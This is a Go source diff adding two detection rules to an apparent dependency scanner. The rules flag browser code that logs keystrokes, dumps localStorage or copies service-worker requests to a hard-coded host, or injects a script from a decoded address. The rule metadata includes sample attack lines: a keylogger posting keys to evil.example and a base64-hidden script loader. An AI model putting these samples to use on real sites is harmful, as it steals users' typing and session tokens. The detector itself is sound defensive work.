@@ -1,0 +1,281 @@
+package browser
+
+import (
+	"context"
+	"fmt"
+	"slices"
+	"strings"
+
+	"github.com/depfence/depfence/internal/analyze"
+	"github.com/depfence/depfence/internal/finding"
+	"github.com/depfence/depfence/internal/jsast"
+	"github.com/depfence/depfence/internal/rules/rulekit"
+)
+
+// PageExfil flags browser code that collects what the user types, what the
+// site stores or the requests a service worker sees, and sends it to a
+// hard-coded host.
+type PageExfil struct{}
+
+// Meta implements analyze.Rule.
+func (PageExfil) Meta() analyze.Meta {
+	return analyze.Meta{
+		ID: "browser/page-exfil", Version: 1, Title: "Sends what users type or store to a hard-coded host",
+		Help: "Browser code sends page data to a constant URL on a host that is neither local nor a known CDN or registry: keystrokes " +
+			"buffered by a keydown/keypress/keyup listener on the page (a keylogger; a shortcut handler compares keys, it does not keep " +
+			"them), the whole of localStorage or sessionStorage enumerated (session tokens and wallet state; a storage library reads its " +
+			"own keys), or the bodies of requests a service worker intercepts in its fetch handler. In a multi-megabyte bundle the pieces " +
+			"must sit close together.",
+		Remediation:     "Remove the package from any site build, rotate the sessions and tokens of users who loaded it, and check which builds shipped it.",
+		Example:         `document.addEventListener("keydown", e => buf.push(e.key)); setInterval(() => fetch("https://evil.example/k", { method: "POST", body: buf.join("") }), 5000)`,
+		DefaultSeverity: finding.SeverityHigh, Signal: analyze.SigCred, Needs: analyze.NeedCode,
+	}
+}
+
+// bundleSize is the size above which a file is treated as a bundle, where
+// unrelated code shares the file and facts must be near each other.
+const bundleSize = 512 << 10
+
+// keyEvents are the keyboard events a keylogger listens to.
+var keyEvents = map[string]bool{"keydown": true, "keypress": true, "keyup": true, "onkeydown": true, "onkeypress": true, "onkeyup": true}
+
+// Check implements analyze.Rule.
+func (PageExfil) Check(ctx context.Context, t *analyze.Target, r analyze.Reporter) error {
+	for _, f := range rulekit.Code(ctx, t) {
+		dest, destPos := externalDest(t, f.Facts)
+		if dest == "" {
+			continue
+		}
+		near := func(p jsast.Pos) bool {
+			return f.Facts.Size <= bundleSize || rulekit.Near(p, []jsast.Pos{destPos})
+		}
+		what, at := "", jsast.Pos{}
+		if p, ok := keylogger(f.Facts); ok && near(p) {
+			what, at = "buffers the keys typed on the page", p
+		} else if p, how, ok := storageDump(f.Facts); ok && near(p) {
+			what, at = "enumerates "+how, p
+		} else if p, ok := interceptedBodies(f.Facts, dest); ok {
+			what, at = "copies the requests its service worker intercepts", p
+		}
+		if what == "" {
+			continue
+		}
+		r.Report(analyze.Instance{File: f.Name, Line: at.Line, Confidence: finding.ConfidenceHigh,
+			Message: fmt.Sprintf("%s and sends to %s", what, dest), Evidence: rulekit.Ev(snippetAt(f.Facts, destPos), dest, "")})
+	}
+	return nil
+}
+
+// externalDest returns the external URL the file sends to: a constant
+// (or the constant start of a template) handed to fetch, sendBeacon, a
+// WebSocket, an HTTP client or XMLHttpRequest's open, on a host that is
+// not local and not trusted for t; or, with new Image() and an
+// assignment to its src, a constant URL next to the Image. A URL merely written
+// in the file (a docs link in an error message) is not a destination.
+func externalDest(t *analyze.Target, f *jsast.Facts) (string, jsast.Pos) {
+	var images []jsast.Pos
+	for _, c := range f.Calls {
+		var a *jsast.Arg
+		switch {
+		case rulekit.IsNetCall(c) && len(c.Args) > 0:
+			a = &c.Args[0]
+		case rulekit.Last(c.Callee) == "open" && len(c.Args) > 1 && c.Args[0].Known && httpMethods[strings.ToUpper(c.Args[0].Value)]:
+			a = &c.Args[1]
+		case c.Callee == "Image":
+			images = append(images, c.Pos)
+		}
+		if a == nil {
+			continue
+		}
+		if u := rulekit.ExternalURL(t, rulekit.Text(*a)); u != "" {
+			return u, c.Pos
+		}
+	}
+	if len(images) > 0 && slices.ContainsFunc(f.Assigns, func(a jsast.Assign) bool { return strings.HasSuffix(a.Target, ".src") }) {
+		for _, s := range f.Strings {
+			if u := rulekit.ExternalURL(t, s.Value); u != "" && !s.Printed && !s.FromFile && rulekit.Near(s.Pos, images) {
+				return u, s.Pos
+			}
+		}
+	}
+	return "", jsast.Pos{}
+}
+
+var httpMethods = map[string]bool{"GET": true, "POST": true, "PUT": true, "PATCH": true}
+
+// keylogger reports a keyboard listener on the page with the typed keys
+// kept for later.
+func keylogger(f *jsast.Facts) (jsast.Pos, bool) {
+	var listen, buffer *jsast.Pos
+	for i := range f.Calls {
+		c := &f.Calls[i]
+		last := rulekit.Last(c.Callee)
+		if (last == "addEventListener" || last == "attachEvent" || last == "on") && len(c.Args) > 0 && c.Args[0].Known && keyEvents[strings.ToLower(c.Args[0].Value)] {
+			listen = &c.Pos
+			break
+		}
+	}
+	for i := range f.Members {
+		m := &f.Members[i]
+		switch {
+		case m.Name == jsast.KeyBuffer:
+			buffer = &m.Pos
+		case listen == nil && keyEvents[strings.ToLower(rulekit.Last(m.Name))]:
+			listen = &m.Pos // document.onkeydown = …
+		}
+	}
+	if listen == nil || buffer == nil {
+		return jsast.Pos{}, false
+	}
+	if f.Size > bundleSize && !rulekit.Near(*listen, []jsast.Pos{*buffer}) {
+		return jsast.Pos{}, false
+	}
+	return *listen, true
+}
+
+// storageDump reports code that enumerates all of localStorage or
+// sessionStorage: key(i), Object.keys/entries/values or JSON.stringify of
+// the store.
+func storageDump(f *jsast.Facts) (jsast.Pos, string, bool) {
+	for _, c := range f.Calls {
+		root, last := strings.TrimPrefix(strings.TrimPrefix(c.Callee, "window."), "self."), rulekit.Last(c.Callee)
+		if (root == "localStorage.key" || root == "sessionStorage.key") && last == "key" {
+			return c.Pos, strings.TrimSuffix(root, ".key"), true
+		}
+		switch c.Callee {
+		case "Object.keys", "Object.entries", "Object.values", "JSON.stringify", "Object.assign":
+		default:
+			continue
+		}
+		for _, a := range c.Args {
+			if n := storeItself(a.Names); n != "" {
+				return c.Pos, n, true
+			}
+		}
+	}
+	return jsast.Pos{}, "", false
+}
+
+// storeItself returns the storage an argument is, when it names only the
+// store and the global holding it (Object.keys(window.localStorage)); an
+// argument that reads one item (localStorage.getItem("k")) is not.
+func storeItself(names []string) string {
+	store := ""
+	for _, n := range names {
+		switch n {
+		case "localStorage", "sessionStorage":
+			store = n
+		case "window", "self", "globalThis":
+		default:
+			return ""
+		}
+	}
+	return store
+}
+
+// interceptedBodies reports a service worker's fetch handler next to a
+// request to dest whose body carries the intercepted request (its url,
+// a clone's text): the requests copied out. A caching worker forwards
+// event.request to its own origin; a worker's telemetry sends its own
+// event.
+func interceptedBodies(f *jsast.Facts, dest string) (jsast.Pos, bool) {
+	var handler *jsast.Pos
+	for i := range f.Calls {
+		c := &f.Calls[i]
+		if rulekit.Last(c.Callee) == "addEventListener" && len(c.Args) > 1 && c.Args[0].Known && c.Args[0].Value == "fetch" {
+			handler = &c.Pos
+			break
+		}
+	}
+	if handler == nil {
+		for i := range f.Assigns {
+			if a := &f.Assigns[i]; rulekit.Last(a.Target) == "onfetch" {
+				handler = &a.Pos
+			}
+		}
+	}
+	if handler == nil {
+		return jsast.Pos{}, false
+	}
+	for _, c := range f.Calls {
+		if !rulekit.IsNetCall(c) || len(c.Args) < 2 || !strings.HasPrefix(c.Args[0].Value+c.Args[0].Shape, dest) {
+			continue
+		}
+		names := c.Args[len(c.Args)-1].Names
+		if slices.ContainsFunc(names, func(n string) bool { return n == "request" || n == "req" || n == "clone" }) {
+			return *handler, true
+		}
+	}
+	return jsast.Pos{}, false
+}
+
+// snippetAt returns the snippet of the call at p, if any.
+func snippetAt(f *jsast.Facts, p jsast.Pos) string {
+	for _, c := range f.Calls {
+		if c.Pos == p {
+			return c.Snippet.String()
+		}
+	}
+	for _, s := range f.Strings {
+		if s.Pos == p {
+			return s.Snippet.String()
+		}
+	}
+	return ""
+}
+
+// ScriptInjection flags code that adds a script element whose address it
+// decoded from base64, hex or character codes.
+type ScriptInjection struct{}
+
+// Meta implements analyze.Rule.
+func (ScriptInjection) Meta() analyze.Meta {
+	return analyze.Meta{
+		ID: "browser/script-injection", Version: 1, Title: "Injects a script from a hidden address",
+		Help: "Code creates a <script> element (or writes a script tag) whose address it decodes at run time (atob, Buffer.from(…, " +
+			"\"base64\"), hex, character codes) and that points to a host that is neither local nor a known CDN. Loaders of analytics " +
+			"or payment SDKs name their CDN in plain text; hiding the address keeps a reviewer and a grep from seeing which code " +
+			"the page will run. This is how compromised packages pull their real payload into the sites that bundle them. Critical; " +
+			"high in a multi-megabyte bundle, where the decoded address must sit by the script element.",
+		Remediation:     "Remove the package from any site build and review what the decoded address served.",
+		Example:         `const s = document.createElement("script"); s.src = atob("aHR0cHM6Ly9ldmlsLmV4YW1wbGUvcy5qcw=="); document.head.appendChild(s)`,
+		DefaultSeverity: finding.SeverityCritical, Signal: analyze.SigRemoteExec, Needs: analyze.NeedCode,
+	}
+}
+
+// Check implements analyze.Rule.
+func (ScriptInjection) Check(ctx context.Context, t *analyze.Target, r analyze.Reporter) error {
+	for _, f := range rulekit.Code(ctx, t) {
+		var inject []jsast.Pos
+		for _, c := range f.Facts.Calls {
+			switch {
+			case c.Callee == "document.createElement" && len(c.Args) > 0 && c.Args[0].Known && strings.EqualFold(c.Args[0].Value, "script"):
+				inject = append(inject, c.Pos)
+			case (c.Callee == "document.write" || c.Callee == "document.writeln") && len(c.Args) > 0 &&
+				(strings.Contains(strings.ToLower(c.Args[0].Value), "<script") || strings.Contains(strings.ToLower(c.Args[0].Shape), "<script")):
+				inject = append(inject, c.Pos)
+			}
+		}
+		if len(inject) == 0 {
+			continue
+		}
+		for _, s := range f.Facts.Strings {
+			if !s.Decoded {
+				continue
+			}
+			u := rulekit.ExternalURL(t, s.Value)
+			if u == "" || f.Facts.Size > bundleSize && !rulekit.Near(s.Pos, inject) {
+				continue
+			}
+			sev := finding.SeverityCritical
+			if f.Facts.Size > bundleSize {
+				sev = finding.SeverityHigh // a bundle's loaders and decoders may only share the file
+			}
+			r.Report(analyze.Instance{File: f.Name, Line: s.Pos.Line, Severity: sev, Confidence: finding.ConfidenceHigh,
+				Message:  "adds a script element loading " + u + ", an address it decodes at run time",
+				Evidence: rulekit.Ev(s.Snippet.String(), u, "")})
+			break
+		}
+	}
+	return nil
+}
